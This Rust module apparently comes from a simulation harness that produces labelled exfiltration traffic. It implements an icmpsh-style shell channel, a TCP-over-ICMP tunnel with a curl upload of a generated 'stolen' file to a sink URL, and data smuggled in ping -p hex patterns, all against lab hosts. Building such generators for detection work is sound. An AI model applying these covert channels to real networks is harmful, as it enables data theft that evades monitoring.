//! Echo requests as a shell's and a tunnel's carrier, and text in ping's own pattern.

use std::fs;
use std::time::Duration;

use anyhow::{Context, Result, ensure};

use crate::random::Random;
use crate::scene::{Outcome, SINK_PORT, Scene, Target, ensure_arrived};

const START: Duration = Duration::from_secs(15);
/// The kernel's own answers must not mix with the server's.
const IGNORE_ALL: &str = "net.ipv4.icmp_echo_ignore_all";
const TUNNEL: [&str; 2] = ["10.98.0.1", "10.98.0.2"];
/// What ping's `-p` takes.
const PATTERN_BYTES: usize = 16;

/// Small polls and larger answers with commands, as icmpsh does it.
pub(crate) fn shell(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    scene.internet().sysctl(IGNORE_ALL, "1")?;
    let target = bare_v4(scene, random)?;
    let got = scene.inbox("got");
    let serve = ["shell-server".to_owned(), target.host.clone(), got.display().to_string()];
    let server = scene.start_script(scene.internet(), "icmp_channel.py", &serve)?;
    server.wait_for_line("ready", START)?;
    let chunk = random.between(16, 128);
    let chunks = random.between(8, 60);
    let document = random.document((chunk * chunks) as usize);
    let file = scene.document("stolen", &document)?;
    let polls = random.between(5, 80);
    let pause_secs = random.uniform(0.02, 0.15);
    let [chunk, polls, pause, seed] = [
        chunk.to_string(),
        polls.to_string(),
        pause_secs.to_string(),
        random.between(0, 1 << 30).to_string(),
    ];
    let send = ["shell", &target.host, &file, &chunk, &polls, &pause, &seed].map(str::to_owned);
    scene.run_script("icmp_channel.py", &send)?;
    let arrived = fs::read(&got).context("nothing arrived")?;
    ensure!(arrived == document, "{} bytes were sent and other ones arrived", document.len());
    let notes =
        format!("{} bytes in chunks of {chunk}, {polls} polls, to {}", document.len(), target.host);
    Ok(Outcome::stolen(scene.culprit(&target, "icmp", None)?, document.len(), notes))
}

/// An upload over TCP over IP over echo requests.
pub(crate) fn tunnel(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    scene.internet().sysctl(IGNORE_ALL, "1")?;
    let target = bare_v4(scene, random)?;
    let [far, near] = TUNNEL.map(str::to_owned);
    let server = scene.start_script(
        scene.internet(),
        "icmp_channel.py",
        &["tun-server".to_owned(), target.host.clone(), far],
    )?;
    server.wait_for_line("ready", START)?;
    let dial = ["tun".to_owned(), target.host.clone(), near];
    let client = scene.start_script(scene.client(), "icmp_channel.py", &dial)?;
    client.wait_for_line("ready", START)?;
    let bytes = random.size(10_000, 400_000);
    let body = format!("@{}", scene.document("stolen", &random.document(bytes))?);
    let url = format!("http://{}:{SINK_PORT}/up/tunnel", TUNNEL[0]);
    let fixed = ["--silent", "--show-error", "--fail", "--output", "/dev/null", "--data-binary"];
    scene.run("curl", &[&fixed[..], &[&body, &url]].concat())?;
    ensure_arrived(bytes, scene.sunk_bytes("/up/tunnel")?)?;
    let notes = format!("{bytes} bytes through {}", target.host);
    Ok(Outcome::stolen(scene.culprit(&target, "icmp", None)?, bytes, notes))
}

/// `ping -p`, one request for each sixteen bytes of text.
pub(crate) fn pattern(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let count = random.between(5, 40) as usize;
    patterns(scene, random, PATTERN_BYTES, count)
}

/// `ping -p`, one request for each letter, which fills the whole payload.
pub(crate) fn letters(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let count = random.between(20, 60) as usize;
    patterns(scene, random, 1, count)
}

fn patterns(scene: &Scene<'_>, random: &mut Random, chunk: usize, count: usize) -> Result<Outcome> {
    let target = bare_v4(scene, random)?;
    let document = crate::payloads::text(random, chunk * count).bytes;
    let size = random.pick(&["56", "56", "32", "24"]).to_string();
    let pause_secs = random.uniform(0.02, 0.25);
    let mut answered = 0;
    for bytes in document.chunks(chunk) {
        let pattern: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
        let arguments =
            ["-q", "-n", "-c", "1", "-W", "2", "-s", &size, "-p", &pattern, &target.host];
        let output = scene.run_with_status("ping", &arguments, &[0, 1])?;
        answered += usize::from(output.contains(" 1 received"));
        std::thread::sleep(Duration::from_secs_f64(pause_secs));
    }
    // There is no repetition: what the line loses is lost.
    ensure!(answered * 20 >= count * 19, "only {answered} of {count} requests were answered");
    let notes =
        format!("{answered} of {count} patterns of {chunk} bytes in {size}, to {}", target.host);
    Ok(Outcome::stolen(scene.culprit(&target, "icmp", None)?, answered * chunk, notes))
}

fn bare_v4(scene: &Scene<'_>, random: &mut Random) -> Result<Target> {
    let mut target = scene.named_target(random)?;
    target.host = target.address.to_string();
    Ok(target)
}
